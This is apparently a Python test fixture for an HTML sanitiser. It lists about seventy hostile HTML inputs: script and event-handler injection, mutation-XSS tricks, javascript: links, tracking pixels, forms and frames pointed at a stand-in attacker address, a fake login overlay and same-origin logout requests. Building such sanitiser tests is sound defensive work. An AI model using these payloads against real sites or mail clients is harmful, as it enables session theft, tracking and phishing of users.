"""HTML that tries to run, load, send or lead away: each by one way, in our own words."""

# ruff: noqa: E501 - a case a line is read faster than one that is broken over several

import os
from pathlib import Path

AWAY = "http://198.51.100.7"
"""Whatever is asked for here was not held back (an address for documentation, RFC 5737)."""
RUN = "document.title='it ran';new Image().src='" + AWAY + "/ran'"

HOSTILE: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={AWAY}/a.js></script>",
    "script split in two": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in a broken tag": f"<<script>{RUN}//<</script>",
    "module": f'<script type="module">{RUN}</script>',
    "event of an image": f'<img src=x onerror="{RUN}">',
    "event with a slash": f'<img/src=x/onerror="{RUN}">',
    "event of the body": f'<body onload="{RUN}" background="{AWAY}/b.png">',
    "event of details": f'<details open ontoggle="{RUN}">x</details>',
    "event of a video": f'<video autoplay onloadstart="{RUN}"><source src="{AWAY}/v.mp4"></video>',
    "event of a focus": f'<input autofocus onfocus="{RUN}">',
    "event of an animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    "svg with an event": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that uses another": f'<svg><use href="{AWAY}/u.svg#x"/></svg>',
    "svg picture": f'<svg><image href="{AWAY}/i.png"/></svg>',
    "svg that animates a link": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg with html within": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "svg as a picture of its own": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "mathml link": '<math href="javascript:alert(1)">x</math>',
    "mutation: style in math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "mutation: noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "mutation: title in svg": f'<svg></p><title><style><img src=x onerror="{RUN}"></style></title></svg>',
    "mutation: comment": f'<!--><img src=x onerror="{RUN}">-->',
    "mutation: textarea": f"<textarea><img title=\"</textarea><img src=x onerror='{RUN}'>\"></textarea>",
    "mutation: template": f'<template><img src=x onerror="{RUN}"></template>',
    "mutation: forms in forms": f'<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link in entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "javascript link behind control characters": '<a href="\x01javascript:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "javascript picture": '<img src="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    "javascript background": '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    "javascript in every attribute": "<p "
    + " ".join(
        f'{name}="javascript:alert(1)"'
        for name in (
            "action",
            "formaction",
            "poster",
            "cite",
            "longdesc",
            "usemap",
            "profile",
            "classid",
            "codebase",
            "data",
            "manifest",
            "icon",
            "ping",
            "xlink:href",
            "srcdoc",
            "xmlns",
            "src",
            "href",
        )
    )
    + ">x</p>",
    "picture from elsewhere": f'<img src="{AWAY}/pixel.gif" width=1 height=1>',
    "picture without a scheme": '<img src="//198.51.100.7/pixel.gif">',
    "pictures of a set": f'<img srcset="{AWAY}/1.png 1x, {AWAY}/2.png 2x"><picture><source srcset="{AWAY}/3.png"></picture>',
    "picture of ours": '<img src="/logout"><img src="/api/email/accounts/">',
    "sound": f'<audio autoplay src="{AWAY}/a.mp3"></audio><bgsound src="{AWAY}/b.wav">',
    "style that loads": f"<style>body{{background:url({AWAY}/s.png)}} @import '{AWAY}/s.css';</style>",
    "style attribute that loads": f'<p style="background:url({AWAY}/p.png)">x</p>',
    "style attribute with escapes": f'<p style="background:u\\72l({AWAY}/p.png)">x</p>',
    "style attribute with a variable": f'<p style="--x:url({AWAY}/p.png);background:var(--x)">x</p>',
    "style attribute with a set": f"<p style=\"background:image-set('{AWAY}/p.png' 1x)\">x</p>",
    "style attribute with a behaviour": '<p style="width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(x)">x</p>',
    "style over everything": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
    "sheet from elsewhere": f'<link rel="stylesheet" href="{AWAY}/s.css"><link rel="preload" as="image" href="{AWAY}/l.png">',
    "look-ups in advance": f'<link rel="dns-prefetch" href="//198.51.100.7"><link rel="prefetch" href="{AWAY}/p"><link rel="icon" href="{AWAY}/i">',
    "font from elsewhere": f"<style>@font-face{{font-family:x;src:url({AWAY}/f.woff)}}</style><font face=x>x</font>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/refreshed">',
    "meta that refreshes to a script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta that sets a cookie": '<meta http-equiv="Set-Cookie" content="mailweave_session=x">',
    "base": f'<base href="{AWAY}/"><img src="based.png"><a href="x">x</a>',
    "form": f'<form action="{AWAY}/form"><input name=token><button>Log in</button></form>',
    "form of ours": '<form action="/logout" method="post"><button>x</button></form>',
    "button with an action": f'<button formaction="{AWAY}/button">x</button><input type=image src="{AWAY}/in.png">',
    "isindex": f'<isindex action="{AWAY}" type=image src="{AWAY}/ix.png">',
    "frame": f'<iframe src="{AWAY}/frame"></iframe><frameset><frame src="{AWAY}/fs"></frameset>',
    "frame with a document": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="{AWAY}/o.swf"></object><embed src="{AWAY}/e.swf"><applet archive="{AWAY}/a.jar"></applet>',
    "portal and fenced frame": f'<portal src="{AWAY}/portal"></portal><fencedframe src="{AWAY}/ff"></fencedframe>',
    "link that pings": f'<a href="https://example.com/" ping="{AWAY}/ping">x</a>',
    "map": '<img usemap="#m"><map name=m><area href="javascript:alert(1)" coords="0,0,9,9"></map>',
    "names that hide ours": "<a id=main name=htmx>x</a><form name=body><input name=action></form>",
    "htmx": '<div hx-get="/logout" hx-trigger="load" data-hx-on:load="alert(1)">x</div>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "xml island": f"<xml id=x><i><b>&lt;img src=x onerror={RUN}&gt;</b></i></xml><span datasrc=#x datafld=b></span>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "a null in a tag": f'<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error="{RUN}">',
    "an end of the document": f"</body></html><script>{RUN}</script>",
    "a tag that never ends": f'<img src=x onerror="{RUN}" ',
    "deep": "<div>" * 3000 + f'<img src=x onerror="{RUN}">',
}
"""By the way that it tries."""

SHARED = Path(os.environ.get("CORPUS") or Path(__file__).resolve().parents[3] / "shared")
CORPUS = SHARED / "corpus/html-html5lib-mganss/raw"


def others() -> dict[str, str]:
    """The cases of other sanitisers, where they lie beside the clone; none where they do not."""
    files = sorted(CORPUS.iterdir()) if CORPUS.is_dir() else []
    return {file.name: file.read_text(errors="replace") for file in files}
